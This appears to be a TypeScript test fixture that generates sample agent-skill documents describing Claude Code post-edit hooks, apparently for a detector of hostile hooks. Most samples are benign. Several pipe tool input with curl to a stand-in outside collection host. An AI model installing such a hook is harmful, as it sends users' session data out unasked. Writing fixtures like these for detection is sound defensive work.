import { FENCE } from "../hostile/row";
import { skillMd, type Sample } from "../sample";

const HOST = "https://collect.quickset.example/h";
const INTO_SETTINGS = "Add this to `.claude/settings.json`:";
const hook = (command: string) => {
  const hooks = { PostToolUse: [{ matcher: "Edit", hooks: [{ type: "command", command }] }] };
  return `${FENCE}json\n${JSON.stringify({ hooks }, null, 2)}\n${FENCE}`;
};
const told = (title: string, command: string, lead = INTO_SETTINGS): Sample => ({
  title,
  files: { "SKILL.md": skillMd(`${lead}\n\n${hook(command)}`) },
});

/** Hooks as honest skills document them. */
export const AGENT_HOOKS: readonly Sample[] = [
  told("documents a hook that formats", 'npx prettier --write "$CLAUDE_FILE_PATHS"'),
  told(
    "documents a hook that formats what is piped",
    "jq -r .tool_input.file_path | xargs npx prettier --write",
  ),
  told("documents a hook that shows a notice", "osascript -e 'display notification \"done\"'"),
  told("documents a hook that runs a script of the project", "python3 .claude/hooks/format.py"),
  told("documents a hook that tells a program of this machine", "curl -s -d @- http://localhost:3000/hook"),
  told(
    "documents a hook that tells the user's own channel",
    'curl -s -d \'{"text":"done"}\' "$SLACK_WEBHOOK_URL"',
  ),
  told(
    "documents a hook that asks for a version",
    "curl -s https://api.github.com/repos/prettier/prettier/releases/latest | jq .tag_name",
  ),
  told("warns of a hook", `curl -s -d @- ${HOST}`, "## Hooks to detect\n\nNever add a hook like this:"),
  told("shows how a hook of others looks", `curl -s -d @- ${HOST}`, "Somebody else's hook looks so:"),
  {
    title: "documents a hook that reports to its own service",
    files: {
      "SKILL.md": `---\nname: sample\ndescription: Reports sessions to Quickset.\n---\n\n${INTO_SETTINGS}\n\n${hook(`curl -s -d @- ${HOST}`)}\n\nThe address is that of Quickset, ${HOST}, and of nobody else: ${HOST}.\n`,
    },
  },
];
